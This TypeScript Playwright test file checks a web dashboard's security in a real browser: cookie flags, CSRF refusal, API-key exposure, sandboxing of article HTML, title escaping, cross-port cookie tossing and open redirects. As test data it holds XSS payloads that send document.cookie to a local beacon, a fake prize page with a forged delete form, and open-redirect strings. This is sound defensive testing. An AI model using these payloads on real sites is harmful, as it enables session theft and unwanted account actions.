import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Engine, engineSchema, MANUAL_CLOCK_START, ManualClock } from '../../../src/engine/index';
import type { ContentRecord } from '../../../src/engine/kernel/records';
import { createApp } from '../../../src/http/app';
import { createMemoryStore } from '../../../src/store/memory';
import type { Store } from '../../../src/store/store';
import { launchChromium, navigate, textOf } from './chromium';

/**
 * The dashboard's defences, in Chromium: the session cookie's flags, forms refused from another
 * origin, no API key where a script could read it, and article HTML that cannot run script in
 * the dashboard's origin even when it reaches the page unsanitized.
 */

let store: Store;
let engine: Engine;
let dashboard: Server;
let base: string;
/** The session cookie's name for the dashboard at `base`: the port is in it. */
let cookieName: string;
/** A second dashboard on another port over the same engine, as a second server on one database. */
let secondDashboard: Server;
let secondBase: string;
/** The `Cookie` header of each request the second dashboard received. */
const secondDashboardCookies: string[] = [];
/** Another origin on the same host (another port): same-site for cookies, so only the form token stops it. */
let otherSite: Server;
let otherBase: string;
/** Records every request a script that should never run would send. */
let beacon: Server;
let beaconBase: string;
const beaconHits: string[] = [];
let browser: Browser;
let context: BrowserContext;
let page: Page;

async function listen(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

let attackerPage = '';

beforeAll(async () => {
  store = createMemoryStore(engineSchema);
  engine = await Engine.open({ store, seed: 11, clock: new ManualClock(MANUAL_CLOCK_START) });
  dashboard = createServer(createApp(engine));
  const secondApp = createApp(engine);
  secondDashboard = createServer((req, res) => {
    secondDashboardCookies.push(req.headers.cookie ?? '');
    secondApp(req, res);
  });
  otherSite = createServer((_req, res) => {
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(attackerPage);
  });
  beacon = createServer((req, res) => {
    beaconHits.push(req.url ?? '');
    res.writeHead(204, { 'access-control-allow-origin': '*' });
    res.end();
  });
  [base, otherBase, beaconBase, secondBase] = await Promise.all([
    listen(dashboard),
    listen(otherSite),
    listen(beacon),
    listen(secondDashboard),
  ]);
  cookieName = `rq_session_${new URL(base).port}`;
  browser = await launchChromium();
  context = await browser.newContext();
  page = await context.newPage();
  await page.goto(`${base}/sign-in`);
  await page.getByLabel('Main API key').fill(engine.demo.api_key);
  await navigate(page, page.getByRole('button', { name: 'Sign in' }));
});

afterAll(async () => {
  await browser?.close();
  await Promise.all(
    [dashboard, otherSite, beacon, secondDashboard].map(
      (server) => new Promise((resolve) => server?.close(resolve)),
    ),
  );
  await store?.close();
});

/** A new browser context signed in at `at` with `key`; `next` is the sign-in page's. */
async function signedInContext(key: string, next?: string): Promise<{ context: BrowserContext; page: Page }> {
  const fresh = await browser.newContext();
  const tab = await fresh.newPage();
  await tab.goto(`${base}/sign-in${next === undefined ? '' : `?next=${encodeURIComponent(next)}`}`);
  await tab.getByLabel('Main API key').fill(key);
  await navigate(tab, tab.getByRole('button', { name: 'Sign in' }));
  return { context: fresh, page: tab };
}

async function account() {
  return engine.accounts.authenticate(engine.demo.api_key);
}

async function anArticle(): Promise<ContentRecord> {
  const [item] = await store.find<ContentRecord>('content', {
    where: { project_id: engine.demo.project_id, status: 'published' },
    limit: 1,
  });
  if (!item) throw new Error('the demo project has no published article');
  return item;
}

describe('dashboard security in a real browser', () => {
  it('keeps the session in an HttpOnly, SameSite=Strict cookie that scripts cannot read', async () => {
    const cookies = await context.cookies();
    const session = cookies.find((cookie) => cookie.name === cookieName);
    expect(session).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/' });
    expect(await page.evaluate(() => document.cookie)).toBe('');
  });

  it('never puts the main API key in a page, a response or storage a script can read', async () => {
    const key = engine.demo.api_key;
    const bodies: string[] = [];
    page.on('response', async (response) => {
      bodies.push(await response.text().catch(() => ''));
    });
    const project = `${base}/projects/${engine.demo.project_id}`;
    const { id: contentId } = await anArticle();
    for (const path of [
      '/',
      '',
      '/content',
      `/content/${contentId}`,
      `/content/${contentId}/article`,
      '/integrations',
      '/activity',
      '/keywords',
      '/ai-visibility',
      '/reports',
    ]) {
      await page.goto(path === '/' ? `${base}/` : `${project}${path}`);
      expect(await page.content(), path).not.toContain(key);
      // The article document is sandboxed: it has no storage at all.
      if (path.endsWith('/article')) continue;
      const storage = await page.evaluate(() => ({
        cookie: document.cookie,
        local: JSON.stringify({ ...localStorage }),
        session: JSON.stringify({ ...sessionStorage }),
        name: window.name,
      }));
      expect(JSON.stringify(storage), path).not.toContain(key);
    }
    await page.goto(`${base}/clock`);
    expect(bodies.length).toBeGreaterThan(10);
    for (const body of bodies) expect(body).not.toContain(key);
    // The public article API key shows only after the owner asks for it.
    expect(bodies.some((body) => body.includes(engine.demo.public_api_key))).toBe(false);
  });

  it('refuses a form posted from another origin of the same host, and changes nothing', async () => {
    const item = await anArticle();
    const action = `${base}/projects/${engine.demo.project_id}/content/${item.id}/delete`;
    attackerPage = `<!doctype html><title>Win a prize</title><form method="post" action="${action}"><input type="hidden" name="confirm" value="yes"><button>Claim</button></form>`;
    const attacker = await context.newPage();
    await attacker.goto(`${otherBase}/`);
    await navigate(attacker, attacker.getByRole('button', { name: 'Claim' }));
    expect(await textOf(attacker.locator('h1'))).toBe('Form refused');
    const after = await engine.content.retrieve(await account(), engine.demo.project_id, item.id);
    expect(after.status).toBe('published');
    await attacker.close();
  });

  it('refuses a form that carries no token of the session, even with the cookie and this origin', async () => {
    const item = await anArticle();
    const cookie = (await context.cookies()).find((entry) => entry.name === cookieName);
    const post = (body: string) =>
      fetch(`${base}/projects/${engine.demo.project_id}/content/${item.id}/unpublish`, {
        method: 'POST',
        redirect: 'manual',
        headers: {
          cookie: `${cookieName}=${cookie?.value}`,
          origin: base,
          'sec-fetch-site': 'same-origin',
          'content-type': 'application/x-www-form-urlencoded',
        },
        body,
      });
    expect((await post('')).status).toBe(403);
    expect((await post('csrf_token=guessed')).status).toBe(403);
    const after = await engine.content.retrieve(await account(), engine.demo.project_id, item.id);
    expect(after.status).toBe('published');
  });

  it('runs no script of an article in the dashboard, even article HTML that escaped sanitizing', async () => {
    const item = await anArticle();
    const hostile = [
      `<script>fetch('${beaconBase}/script?c=' + document.cookie); parent.document.title = 'pwned';</script>`,
      `<img src="x" onerror="fetch('${beaconBase}/onerror'); parent.document.body.dataset.pwned = 'yes'">`,
      `<svg onload="fetch('${beaconBase}/svg')"></svg>`,
      `<iframe src="javascript:fetch('${beaconBase}/iframe')"></iframe>`,
      `<form action="${base}/sign-out" method="post"><button id="go">go</button></form>`,
    ].join('\n');
    // Written past the engine, as a sanitizer bug would let it through.
    await store.transaction((tx) => tx.put('content', { ...item, content: hostile }));
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(`${base}/projects/${engine.demo.project_id}/content/${item.id}`);
    const frame = page.frameLocator('iframe.article');
    await frame.locator('#go').waitFor();
    // A sandboxed frame may not submit forms either.
    await frame.locator('#go').click();
    await page.waitForTimeout(500);
    expect(await page.title()).not.toBe('pwned');
    expect(await page.evaluate(() => document.body.dataset.pwned)).toBeUndefined();
    expect(new URL(page.url()).pathname).toBe(`/projects/${engine.demo.project_id}/content/${item.id}`);
    // Opened on its own, the article document is sandboxed by its policy too.
    await page.goto(`${base}/projects/${engine.demo.project_id}/content/${item.id}/article`);
    await page.waitForTimeout(500);
    expect(beaconHits).toEqual([]);
    expect(dialogs).toEqual([]);
    // Still signed in: the frame's form did not sign the browser out.
    await page.goto(`${base}/`);
    expect(await textOf(page.locator('h1'))).toBe('Projects');
  });

  it('escapes what the API stores as text, such as a title holding markup', async () => {
    const item = await anArticle();
    const title = `<img src=x onerror="fetch('${beaconBase}/title')">Title`;
    await engine.content.update(await account(), engine.demo.project_id, item.id, { title });
    await page.goto(`${base}/projects/${engine.demo.project_id}/content`);
    expect(await textOf(page.getByRole('link', { name: /Title$/ }))).toBe(title);
    await page.goto(`${base}/projects/${engine.demo.project_id}/content/${item.id}`);
    expect(await textOf(page.locator('h1'))).toBe(title);
    await page.waitForTimeout(300);
    expect(beaconHits).toEqual([]);
  });

  // Issue 22, finding 2: the browser sends a host's cookies to every port of it.
  it("does not take the session of another port's dashboard, though the browser sends its cookie there", async () => {
    await page.goto(`${secondBase}/`);
    expect(secondDashboardCookies[0]).toContain(`${cookieName}=`);
    expect(new URL(page.url()).pathname).toBe('/sign-in');
    // Under the second dashboard's own cookie name the session is still another origin's.
    const value = (await context.cookies()).find((entry) => entry.name === cookieName)?.value;
    const replayed = await fetch(`${secondBase}/`, {
      redirect: 'manual',
      headers: { cookie: `rq_session_${new URL(secondBase).port}=${value}` },
    });
    expect(replayed.headers.get('location')).toBe('/sign-in');
    await page.goto(`${base}/`);
    expect(await textOf(page.locator('h1'))).toBe('Projects');
  });

  // Issue 22, finding 3: a page of another port sets the same name with a narrower Path.
  it("signs the browser out rather than run a page as the account of a cookie another port's page tossed in", async () => {
    const attackerAccount = await engine.accounts.create({ plan: 'essential' });
    const attackerSignIn = await fetch(`${base}/sign-in`, {
      method: 'POST',
      redirect: 'manual',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ api_key: attackerAccount.api_key }),
    });
    const attackerValue = /=([^;]+)/.exec(attackerSignIn.headers.get('set-cookie') ?? '')?.[1];
    expect(attackerValue).toBeDefined();
    const victim = await signedInContext(engine.demo.api_key);
    try {
      attackerPage = '<!doctype html><title>Another port</title><p>Nothing to see</p>';
      await victim.page.goto(`${otherBase}/`);
      await victim.page.evaluate(
        ([name, value]) => {
          // biome-ignore lint/suspicious/noDocumentCookie: the attack under test is a page setting a cookie
          document.cookie = `${name}=${value}; Path=/projects`;
        },
        [cookieName, attackerValue ?? ''],
      );
      const response = await victim.page.goto(`${base}/projects/${engine.demo.project_id}`);
      const hops: string[] = [];
      for (let request = response?.request(); request; request = request.redirectedFrom() ?? undefined) {
        hops.unshift(new URL(request.url()).pathname);
      }
      // Two session cookies: signed out there, never the attacker's account (a 404 for this
      // project); /sign-in, where the tossed cookie's Path does not reach, finds the victim's.
      expect(hops).toEqual([`/projects/${engine.demo.project_id}`, '/sign-in', '/']);
      expect(await textOf(victim.page.locator('h1'))).toBe('Projects');
    } finally {
      await victim.context.close();
    }
  });

  // Issue 22, finding 4: `/<TAB>/host` passed a prefix check, and a browser reads it as `//host`.
  it.each(['/\t/127.0.0.1:9/x', '/\\127.0.0.1:9/x', '/.//127.0.0.1:9/x'])(
    'goes to the projects after a sign-in with next=%j, never to another host',
    async (next) => {
      const signed = await signedInContext(engine.demo.api_key, next);
      try {
        expect(signed.page.url()).toBe(`${base}/`);
        expect(await textOf(signed.page.locator('h1'))).toBe('Projects');
      } finally {
        await signed.context.close();
      }
    },
  );
});
